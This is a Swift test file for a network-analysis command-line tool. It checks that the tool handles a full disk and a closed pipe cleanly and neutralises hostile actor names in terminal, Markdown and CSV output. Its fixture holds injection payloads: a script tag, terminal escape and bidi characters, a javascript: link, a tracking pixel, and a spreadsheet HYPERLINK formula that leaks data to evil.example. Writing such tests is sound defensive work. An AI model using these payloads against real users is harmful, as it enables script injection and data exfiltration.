import Foundation
import Testing

/// Issue 21, findings 2–5, through the real executable: a full disk or a closed pipe never crashes
/// the process, and names from an outside file reach neither a terminal as escape sequences, nor
/// Markdown as markup, nor a spreadsheet as a formula.
struct HostileOutputTests {
    static let hostile = """
    network: "Net <script>alert(1)</script>"
    actors:
      - {id: comm, name: "Büro \\x9b8m hidden \\u202Eevil", kind: commissioner}
      - {id: club, name: "[Click for the full report](javascript:alert(1))", kind: association}
      - {id: pixel, name: "![x](https://tracker.example/pixel.png)", kind: association}
      - {id: formula, name: "=HYPERLINK(\\"https://evil.example/?leak=\\"&B3,\\"Details\\")", kind: association}
    links:
      - {from: comm, to: club, type: supports}
      - {from: club, to: pixel, type: cooperates}
      - {from: club, to: formula, type: cooperates}

    """

    func writeNetwork() throws -> URL {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("actormap-hostile-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let file = folder.appendingPathComponent("net.yaml")
        try Self.hostile.write(to: file, atomically: true, encoding: .utf8)
        return file
    }

    @Test func aFullDiskIsOneLineAndExit73() throws {
        let process = Process()
        process.executableURL = CommandRunner.executable
        process.arguments = ["summary", "networks/halle.yaml"]
        process.currentDirectoryURL = CommandRunner.repository
        let full = try #require(FileHandle(forWritingAtPath: "/dev/full"))
        let err = Pipe()
        process.standardOutput = full
        process.standardError = err
        try process.run()
        let errData = err.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        #expect(process.terminationReason == .exit)
        #expect(process.terminationStatus == 73)
        #expect(String(decoding: errData, as: UTF8.self)
                == "actormap: error: cannot write to standard output: No space left on device\n")
    }

    @Test func aClosedPipeEndsQuietlyAsSIGPIPEDoes() throws {
        let process = Process()
        process.executableURL = CommandRunner.executable
        process.arguments = ["centrality", "networks/luxembourg-pakt.yaml"]
        process.currentDirectoryURL = CommandRunner.repository
        let out = Pipe()
        let err = Pipe()
        process.standardOutput = out
        process.standardError = err
        try out.fileHandleForReading.close()
        try process.run()
        let errData = err.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        #expect(process.terminationReason == .uncaughtSignal)
        #expect(process.terminationStatus == SIGPIPE)
        #expect(errData.isEmpty)
    }

    @Test(arguments: [["summary"], ["centrality"], ["gaps"], ["scenario", "--remove-each"], ["validate"]])
    func namesReachTheTerminalWithoutEscapeSequences(command: [String]) throws {
        let file = try writeNetwork()
        let outcome = try CommandRunner.run(command + [file.path])
        let everything = outcome.stdout + outcome.stderr
        #expect(!everything.unicodeScalars.contains { $0.value == 0x9B || $0.value == 0x202E || $0.value == 0x1B })
        if ["summary", "centrality"].contains(command[0]) {
            #expect(everything.contains("\\u{9B}8m hidden \\u{202E}evil"))
        }
    }

    @Test(arguments: [["summary"], ["centrality"], ["gaps"], ["scenario", "--remove-each"], ["brokerage", "--groups", "kind"]])
    func markdownOutputsWriteNoLiveLinkImageOrHTML(command: [String]) throws {
        let file = try writeNetwork()
        let outcome = try CommandRunner.run(command + [file.path, "--format", "markdown"])
        #expect(outcome.status == 0 || outcome.status == 1)
        #expect(!outcome.stdout.contains("<script"))
        #expect(!outcome.stdout.contains("](javascript"))
        #expect(!outcome.stdout.contains("!["))
    }

    @Test func centralityCSVNeutralisesFormulas() throws {
        let file = try writeNetwork()
        let outcome = try CommandRunner.run(["centrality", file.path, "--format", "csv"])
        #expect(outcome.status == 0)
        let cells = outcome.stdout.split(separator: "\n").flatMap { $0.split(separator: ",") }
        #expect(!cells.contains { $0.hasPrefix("=") || $0.hasPrefix("\"=") })
        #expect(outcome.stdout.contains("\"'=HYPERLINK("))
    }
}

/// Issue 21, finding 8: the hand-written HSDS mapping file is an input, never an output.
struct HSDSMappingProtectionTests {
    @Test func importHSDSRefusesToWriteOverItsMappingFile() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("actormap-hsds-out-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let fixtures = CommandRunner.repository.appendingPathComponent("Tests/InteropTests/Fixtures/hsds")
        let mapping = folder.appendingPathComponent("mapping.yaml")
        try FileManager.default.copyItem(at: fixtures.appendingPathComponent("mapping.yaml"), to: mapping)
        let before = try Data(contentsOf: mapping)
        let outcome = try CommandRunner.run(["import", "hsds", fixtures.path, "--mapping", mapping.path, "-o", mapping.path])
        #expect(outcome.status == 73)
        #expect(try Data(contentsOf: mapping) == before)
    }
}
